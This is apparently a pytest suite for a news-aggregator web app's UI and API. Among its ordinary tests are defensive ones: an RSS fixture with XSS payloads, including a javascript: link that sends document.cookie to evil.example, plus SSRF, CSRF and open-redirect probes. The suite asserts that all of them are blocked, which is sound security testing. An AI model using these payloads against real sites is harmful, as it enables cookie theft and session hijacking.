"""The web UI and JSON API, over real HTTP, on the demo newsroom."""

from __future__ import annotations

import re

import feedparser

from tests.accounts import subscribe
from tests.feeds import rss
from tests.loopback import LoopbackSite, Route
from tests.web.conftest import LiveServer
from tidings import pipeline
from tidings.fetch import Fetcher
from tidings.models import Source
from tidings.store import sources as source_store
from tidings.store.db import transaction


def test_home_shows_the_demo_feed_marked_as_sample(live: LiveServer) -> None:
    with live.client() as http:
        page = http.get("/")
    assert page.status_code == 200
    assert "Sample data" in page.text
    stories = re.findall(r'<li class="story item[^"]*"', page.text)
    assert len(stories) >= 10
    assert "full coverage" in page.text  # at least one event told by several outlets


def test_feed_api_explains_every_item(live: LiveServer) -> None:
    with live.client() as http:
        body = http.get("/api/v1/feed", params={"limit": 20}).json()
    assert body["user"] == live.settings.user
    assert len(body["items"]) >= 10
    assert all(item["why"] for item in body["items"])
    assert any(w.startswith("you follow") for item in body["items"] for w in item["why"])
    multi = [i for i in body["items"] if i["story"]["source_count"] > 1]
    assert multi and all(len(i["sources"]) == i["story"]["source_count"] for i in multi)


def test_story_and_article_pages(live: LiveServer) -> None:
    with live.client() as http:
        item = next(i for i in http.get("/api/v1/feed").json()["items"]
                    if i["story"]["article_count"] > 1)
        story = http.get(f"/api/v1/stories/{item['story']['id']}").json()
        assert len(story["articles"]) == item["story"]["article_count"]
        article_id = story["articles"][0]["id"]
        page = http.get(f"/articles/{article_id}")
        data = http.get(f"/api/v1/articles/{article_id}").json()
    assert page.status_code == 200 and data["title"] in page.text.replace("&#39;", "'")
    assert data["entities"], "the article page lists who and what"
    assert http_404(live, "/articles/999999") and http_404(live, "/api/v1/stories/999999")


def http_404(live: LiveServer, path: str) -> bool:
    with live.client() as http:
        return http.get(path).status_code == 404


def test_malformed_api_requests_get_clear_errors(live: LiveServer) -> None:
    with live.client() as http:
        missing = http.post("/api/v1/sources", json={})
        bad_limit = http.get("/api/v1/feed", params={"limit": "many"})
        refused = http.post("/api/v1/sources", json={"url": "http://169.254.169.254/latest"})
    assert missing.status_code == 422 and "url" in missing.text
    assert bad_limit.status_code == 422
    assert refused.status_code == 422 and "169.254.169.254" in refused.json()["detail"]


def test_add_feed_form_and_error_display(live: LiveServer, site: LoopbackSite) -> None:
    site.routes["/ok.xml"] = Route(rss("Loopback Ledger", [
        ("w1", "Tram line opens to the airport", "The new tram line carried 3,000 riders.")]),
        headers={"Content-Type": "application/rss+xml"})
    with live.client() as http:
        added = http.post("/sources", data={"url": site.url("/ok.xml"), "folder": "Local"})
        assert added.status_code == 303
        listing = http.get("/sources").text
        failed = http.post("/sources", data={"url": site.url("/missing.xml")})
    assert "Loopback Ledger" in listing
    assert failed.status_code == 422 and "404" in failed.text and 'role="alert"' in failed.text


def test_openapi_is_served(live: LiveServer) -> None:
    with live.client() as http:
        spec = http.get("/api/v1/openapi.json").json()
    assert "/api/v1/feed" in spec["paths"] and "/api/v1/sources" in spec["paths"]


def test_personal_atom_feed_is_valid_and_private(live: LiveServer) -> None:
    with live.client() as http:
        link = re.search(r'(/feeds/[^"<]+\.atom)', http.post("/account/feed").text)
        assert link
        atom = http.get(link.group(1))
        wrong = http.get("/feeds/not-a-token.atom")
        home = http.get("/").text
    assert link.group(1) not in home  # the secret address is shown once, to its owner
    parsed = feedparser.parse(atom.content)
    assert atom.headers["content-type"] == "application/atom+xml; charset=utf-8"
    assert not parsed.bozo and len(parsed.entries) >= 10
    assert all("Why:" in e.summary for e in parsed.entries)
    assert wrong.status_code == 404


def test_hidden_story_leaves_the_feed(live: LiveServer) -> None:
    with live.client() as http:
        before = [i["story"]["id"] for i in http.get("/api/v1/feed").json()["items"]]
        target = before[-1]
        answer = http.post("/api/v1/interactions", json={"kind": "hide", "story_id": target})
        after = [i["story"]["id"] for i in http.get("/api/v1/feed").json()["items"]]
        bad = http.post("/api/v1/interactions", json={"kind": "teleport", "story_id": target})
        nothing = http.post("/api/v1/interactions", json={"kind": "read"})
        missing = http.post("/api/v1/interactions", json={"kind": "read", "story_id": 999999})
    assert answer.status_code == 201
    assert target in before and target not in after and len(after) == len(before) - 1
    assert (bad.status_code, nothing.status_code, missing.status_code) == (422, 422, 404)


HOSTILE = (
    b'<?xml version="1.0"?><rss version="2.0"><channel><title>Hostile Herald</title>'
    b"<item><guid>x1</guid><title>Council rejects the harbour plan</title>"
    b"<link>javascript:fetch('//evil.example/?'+document.cookie)</link>"
    b"<description><![CDATA[<p>The council voted against the plan by nine votes to four.</p>"
    b"<script>alert(1)</script><p onclick=\"alert(2)\">Members asked for a new survey of "
    b"the quay walls.</p><img src=x onerror=alert(3)><a href=\"javascript:alert(4)\">x</a>"
    b"<iframe src=\"https://evil.example/\"></iframe>]]></description></item>"
    b"</channel></rss>"
)


def test_hostile_feed_content_is_neutralised(live: LiveServer, site: LoopbackSite) -> None:
    site.routes["/hostile.xml"] = Route(HOSTILE, headers={"Content-Type": "application/rss+xml"})
    with live.client() as http:
        added = http.post("/api/v1/sources", json={"url": site.url("/hostile.xml")})
        assert added.status_code == 201
        listed = http.get("/api/v1/articles", params={"limit": 200, "unread_only": "false"})
        article = next(a for a in listed.json()["items"]
                       if a["title"] == "Council rejects the harbour plan")
        page = http.get(f"/articles/{article['id']}").text
        atom_link = re.search(r'(/feeds/[^"<]+\.atom)', http.post("/account/feed").text)
        atom = http.get(atom_link.group(1)).text if atom_link else ""
    assert "nine votes to four" in page and "new survey" in page
    # The one script is our own, from our origin (the CSP allows no other).
    assert re.findall(r"<script[^>]*>", page) == ['<script src="/static/keys.js" defer>']
    page = page.replace('<script src="/static/keys.js" defer></script>', "")
    for bad in ("<script", "onclick", "onerror", "javascript:", "<iframe", "evil.example"):
        assert bad not in page, bad
        assert bad not in atom, bad


def test_cross_site_writes_are_refused(live: LiveServer) -> None:
    with live.client() as http:
        story = http.get("/api/v1/feed").json()["items"][0]["story"]["id"]
        evil = http.post(f"/stories/{story}/hide", headers={"Origin": "https://evil.example"})
        opaque = http.post("/sources", data={"url": "https://x.example/"},
                           headers={"Origin": "null"})
        same = http.post("/api/v1/interactions", json={"kind": "read", "story_id": story},
                         headers={"Origin": live.base})
        still_there = [i["story"]["id"] for i in http.get("/api/v1/feed").json()["items"]]
    assert (evil.status_code, opaque.status_code, same.status_code) == (403, 403, 201)
    assert story in still_there


def test_sources_page_shows_a_failing_sources_last_error(live: LiveServer,
                                                         site: LoopbackSite) -> None:
    with transaction(live.engine) as conn:
        source, _ = source_store.add_source(conn, Source(url=site.url("/vanished.xml"),
                                                         title="Vanished Voice"))
        subscribe(conn, source.id or 0, live.settings.user)
    with Fetcher(live.settings) as fetcher:
        report = pipeline.refresh_source(live.engine, fetcher, source.id or 0,
                                         settings=live.settings)
    with live.client() as http:
        page = http.get("/sources").text
        api = {s["title"]: s for s in http.get("/api/v1/sources").json()}
    row = page.split("Vanished Voice", 1)[1].split("</tr>", 1)[0]
    assert report.error and "404" in report.error
    assert 'class="error"' in row and "404" in row and "1 in a row" in row
    assert "404" in api["Vanished Voice"]["last_error"]


def test_follow_from_an_article_lifts_its_story(live: LiveServer) -> None:
    with live.client() as http:
        items = http.get("/api/v1/feed", params={"limit": 200}).json()["items"]
        unfollowed = [i for i in items if not any(w.startswith("you follow") for w in i["why"])]
        plain, article = next(
            (i, a) for i in unfollowed
            if (a := http.get(f"/api/v1/articles/{i['lead']['id']}").json())["entities"])
        name = article["entities"][0]["name"]
        page = http.get(f"/articles/{plain['lead']['id']}").text
        assert f'value="{name}"' in page.replace("&#39;", "'")  # the follow button is there
        followed = http.post("/follows", data={"kind": "entity", "target": name,
                                               "back": f"/articles/{plain['lead']['id']}"})
        after = http.get("/api/v1/feed", params={"limit": 200}).json()["items"]
        mine = {f["target"]: f for f in http.get("/api/v1/follows").json()}
        offsite = http.post("/follows", data={"kind": "keyword", "target": "x",
                                              "back": "//evil.example/"})
        removed = http.delete(f"/api/v1/follows/{mine[name]['id']}")
        gone = http.delete(f"/api/v1/follows/{mine[name]['id']}")
        bad = http.post("/api/v1/follows", json={"kind": "planet", "target": "Mars"})
    story = next(i for i in after if i["story"]["id"] == plain["story"]["id"])
    assert followed.status_code == 303
    assert followed.headers["location"] == f"/articles/{plain['lead']['id']}"
    assert f"you follow entity {name}" in story["why"]
    assert story["score"] > plain["score"]
    assert offsite.headers["location"] == "/follows"
    assert (removed.status_code, gone.status_code, bad.status_code) == (204, 404, 422)


def test_muting_a_topic_from_the_api_hides_its_stories(live: LiveServer) -> None:
    with live.client() as http:
        before = http.get("/api/v1/feed", params={"limit": 200}).json()["items"]
        label = http.get(f"/api/v1/articles/{before[0]['lead']['id']}").json()["topics"][0]
        muted = http.post("/api/v1/follows", json={"kind": "topic", "target": label,
                                                   "muted": True})
        after = http.get("/api/v1/feed", params={"limit": 200}).json()["items"]
        http.delete(f"/api/v1/follows/{muted.json()['id']}")
    assert muted.status_code == 201 and len(after) < len(before)
    assert before[0]["story"]["id"] not in [i["story"]["id"] for i in after]


def test_entity_page_gathers_its_stories_across_outlets(live: LiveServer) -> None:
    with live.client() as http:
        items = http.get("/api/v1/feed", params={"limit": 200}).json()["items"]
        wide = next(i for i in items if i["story"]["source_count"] > 2)
        article = http.get(f"/api/v1/articles/{wide['lead']['id']}").json()
        page = http.get(f"/articles/{wide['lead']['id']}").text
        link = re.search(r'href="/entities/(\d+)"', page)
        assert link
        entity = http.get(f"/api/v1/entities/{link.group(1)}").json()
        html = http.get(f"/entities/{link.group(1)}").text
        missing = http.get("/api/v1/entities/999999")
    assert entity["name"] in [e["name"] for e in article["entities"]]
    assert wide["story"]["id"] in [s["id"] for s in entity["stories"]]
    assert entity["name"] in html and f'/stories/{wide["story"]["id"]}' in html
    assert missing.status_code == 404
